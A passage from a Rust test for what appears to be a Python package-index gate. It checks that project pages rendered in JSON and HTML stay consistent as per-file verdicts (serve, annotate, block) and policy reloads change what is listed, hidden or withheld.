            files.push(serde_json::json!({"filename": filename, "url": format!("https://files.example.org/{filename}"),
                "hashes": {"sha256": sha}, "size": size, "upload-time": "2024-01-01T00:00:00Z", "requires-python": ">=3.8"}));
            let sdist = filename.replace("-py3-none-any.whl", ".tar.gz");
            files.push(serde_json::json!({"filename": sdist, "url": format!("https://files.example.org/{sdist}"),
                "hashes": {"sha256": format!("{:0>64}", files.len())}, "yanked": files.len() == 3}));
        }
        let body =
            serde_json::json!({"name": "demo", "files": files, "project-status": {"status": "active"}}).to_string();
        let url = url::Url::parse("http://127.0.0.1:1/simple/demo/").unwrap();
        let page = Arc::new(parse_project(&body, "application/json", &url, "demo").unwrap());
        let origins = page.files.iter().map(|e| crate::index::origin("demo", e)).collect();
        store.put_origins(origins).await.unwrap();

        // Make `wheels[i]`'s verdict known, as a client's download (or a pre-scan) does.
        let decide = |i: usize| {
            let (filename, path, sha) = wheels[i].clone();
            let (gate, store) = (&gate, store.clone());
            async move {
                let size = std::fs::metadata(&path).unwrap().len();
                let facts = ArtifactFacts::describe("demo", &filename, &sha, None, size, path);
                let metadata_sha256 = Some(format!("{:x>64}", i));
                store.set_verified(&sha, &Verified { sha256: sha.parse().unwrap(), metadata_sha256 }).await.unwrap();
                gate.decide(&facts).await.verdict.decision
            }
        };
        let reload =
            |text: &str| policy.store(Arc::new(Policy::from_str_with_catalog("policy.yaml", text, &[]).unwrap()));

        let formats = [PageFormat::Json, PageFormat::TextHtml];
        let mut kept: Vec<Patched<Arc<crate::gate::Early>>> = formats.iter().map(|f| Patched::new(*f)).collect();
        let mut last: Vec<Option<String>> = vec![None; formats.len()];
        let steps = [
            "nothing known",
            "serve",
            "annotate",
            "block of the newest",
            "block of an older one",
            "policy reload: blocked versions hidden",
            "policy reload: everything blocked (all stay listed)",
            "policy reload: nothing blocked",
        ];
        for step in steps {
            match step {
                "nothing known" => {}
                "serve" => assert_eq!(decide(1).await, Decision::Serve, "{step}"),
                "annotate" => assert_eq!(decide(2).await, Decision::Annotate, "{step}"),
                "block of the newest" => assert_eq!(decide(3).await, Decision::Block, "{step}"),
                "block of an older one" => assert_eq!(decide(0).await, Decision::Block, "{step}"),
                "policy reload: blocked versions hidden" => reload(&LENIENT.replace("index: yank", "index: hide")),
                "policy reload: everything blocked (all stay listed)" => reload(&format!("{LENIENT}deny: [demo]\n")),
                "policy reload: nothing blocked" => reload(&LENIENT.replace("critical: block", "critical: annotate")),
                _ => unreachable!(),
            }
            let listing = gate.list("demo", &page).await;
            for (f, format) in formats.iter().enumerate() {
                let case = format!("{step}, {format:?}");
                let early = kept[f].extra.clone();
                let verdicts = gate.verdicts("demo", &page, early).await;
                let (patched, withheld, made) = render_patched(&mut kept[f], "demo", &page, &verdicts, None);
                let fresh_verdicts = gate.verdicts("demo", &page, None).await;
                let (fresh, _, all) = render_patched(&mut Patched::new(*format), "demo", &page, &fresh_verdicts, None);
                assert_eq!(all, page.files.len(), "{case}: a fresh page renders every entry");
                assert_eq!(patched, fresh, "{case}: patched page differs from a fresh render");
                let whole = match format {
                    PageFormat::Json => render::project_json(
                        "demo",
                        &listing.files,
                        &render::versions(None, &listing.files),
                        &page.extra,
                    ),
                    _ => render::project_html_with_status("demo", &listing.files, render::project_status(&page.extra)),
                };
                assert_eq!(patched, whole, "{case}: patched page differs from the whole-listing render");
                let names = |w: &[crate::gate::Withheld]| w.iter().map(|w| w.filename.clone()).collect::<Vec<_>>();
                assert_eq!(names(&withheld), names(&listing.withheld), "{case}: withheld");
                if !step.starts_with("policy") && step != "nothing known" {
                    assert!(made <= 8, "{case}: a verdict re-rendered {made} of {} entries", page.files.len());
                }
                let etag = crate::respond::page_etag(&patched);
                if let Some(before) = &last[f] {
                    assert_ne!(&patched, before, "{case}: the step changed nothing on the page");
                    assert_ne!(etag, crate::respond::page_etag(before), "{case}: a changed page keeps its ETag");
                }
                last[f] = Some(patched);
            }
        }
        let shown = last[0].as_deref().unwrap();
        assert!(shown.contains("\"project-status\":{\"status\":\"active\"}"), "upstream status kept: {shown}");
    }
}
